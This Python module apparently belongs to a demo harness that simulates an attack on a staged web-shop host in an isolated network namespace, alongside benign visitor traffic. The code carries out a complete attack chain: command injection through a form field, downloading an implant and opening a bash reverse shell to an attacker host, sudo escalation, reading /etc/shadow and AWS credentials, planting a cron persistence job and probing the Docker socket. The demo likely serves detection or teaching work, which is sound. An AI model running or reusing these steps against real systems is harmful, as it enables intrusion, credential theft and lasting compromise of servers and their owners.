"""The attacker of the demo's attack, and the shop's visitors: they speak to the staged host over its network and are not watched.

attack(pid)    with the first process of the staged host; returns what was read over the connection that came back
"""

from __future__ import annotations

import os
import socket
import threading
import time

from firmer.authoring.demo.world import ADDRESS, NEW_NET, check, libc

VISITORS = ("192.0.2.10", "192.0.2.77", "192.0.2.140")
ATTACKER, HIDEOUT = "198.51.100.23", "203.0.113.66"
IMPLANT = "/tmp/.cache/kworker"
IMPLANT_SOURCE = "/usr/bin/bash"  # a program that listens to a connection: a shell does
WAIT_S = 20.0
COMMANDS = (
    ("id", "uid=33"),
    ("sudo -n bash", ""),
    ("id", "uid=0"),
    ("cat /etc/shadow", "root:$y$"),
    (f"echo '*/5 * * * * root {IMPLANT}' > /etc/cron.d/sysupdate", ""),
    ("docker exec -it shop sh", ""),
    ("hostname", "shop"),
    ("cat /root/.aws/credentials", "aws_secret_access_key"),
    ("curl -s --unix-socket /var/run/docker.sock http://docker/containers/json", "/shop"),
    ("exit", ""),
    ("exit", ""),
)


def attack(pid: int) -> str:
    enter_network(pid)
    files, shell = listening(80), listening(4444)
    threading.Thread(target=serve_implant, args=(files,), daemon=True).start()
    for visitor in VISITORS:
        visit(visitor)
    log_in()
    request(ATTACKER, "/upload", "id; ls /home")
    time.sleep(2)
    visit(VISITORS[0])
    there = f"curl -so {IMPLANT} http://{HIDEOUT}/k && chmod +x {IMPLANT} && {IMPLANT} -c 'bash -i >& /dev/tcp/{HIDEOUT}/4444 0>&1'"
    request(ATTACKER, "/upload", f"mkdir /tmp/.cache; {there}")
    shell.settimeout(WAIT_S)
    connection, _ = shell.accept()
    heard = "".join(command(connection, words, answer) for words, answer in COMMANDS)
    visit(VISITORS[1])
    time.sleep(1)
    return heard


def enter_network(pid: int) -> None:
    space = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    check(libc.setns(space, NEW_NET), "setns")
    os.close(space)


def listening(port: int) -> socket.socket:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((HIDEOUT, port))
    server.listen()
    return server


def serve_implant(files: socket.socket) -> None:
    with open(IMPLANT_SOURCE, "rb") as file:
        content = file.read()
    while True:
        client, _ = files.accept()
        client.recv(4096)
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(content) + content)
        client.close()


def visit(visitor: str) -> None:
    request(visitor, "/products", "")
    time.sleep(0.3)


def request(source: str, page: str, line: str) -> None:
    with socket.create_connection((ADDRESS, 80), WAIT_S, (source, 0)) as connection:
        body = f"name=x;{line}" if line else ""
        connection.sendall(f"{'POST' if line else 'GET'} {page} HTTP/1.1\r\nHost: shop.example\r\n\r\n{body}".encode())
        connection.recv(4096)


def log_in() -> None:
    with socket.create_connection((ADDRESS, 22), WAIT_S, (VISITORS[2], 0)) as connection:
        while connection.recv(4096):
            pass


def command(connection: socket.socket, words: str, answer: str) -> str:
    """Type a line; wait for its answer, or a moment where there is none to be expected."""
    connection.sendall(words.encode() + b"\n")
    connection.settimeout(WAIT_S if answer else 1.5)
    heard = ""
    while not answer or answer not in heard:
        try:
            some = connection.recv(4096)
        except TimeoutError:
            break
        if not some:
            break
        heard += some.decode("utf-8", "replace")
    time.sleep(0.5)
    return heard
